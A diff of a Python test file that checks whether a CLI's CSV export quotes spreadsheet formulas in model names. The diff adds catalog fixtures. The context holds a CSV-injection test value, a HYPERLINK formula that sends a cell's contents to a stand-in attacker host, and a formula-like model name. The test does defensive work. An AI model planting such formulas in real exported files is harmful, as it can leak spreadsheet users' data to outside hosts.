@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 
 from hf_providers.text import for_spreadsheet
-from tests.cli.hfp import Hfp, catalog, model
+from tests.cli.hfp import Hfp, catalog, model, offer, provider
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
 
@@ -34,7 +34,9 @@ def test_numbers_and_other_text_stay(text: str) -> None:
 
 
 def test_names_of_strangers_are_quoted_unless_raw(hfp: Hfp, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    path = catalog(tmp_path / "catalog.sqlite", {"models": [model("=cmd/Model-1", license=FORMULA, likes=3)]})
+    models = [model("=cmd/Model-1", license=FORMULA, likes=3)]
+    rows = {"models": models, "offers": [offer("=cmd/Model-1", "p")], "providers": [provider("p")]}
+    path = catalog(tmp_path / "catalog.sqlite", rows)
     monkeypatch.setenv("HFP_SNAPSHOT", str(path))
     assert cells(hfp("models", "--format", "csv").out)[1][0] == "'=cmd/Model-1"
     assert cells(hfp("models", "--format", "csv", "--raw").out)[1][0] == "=cmd/Model-1"
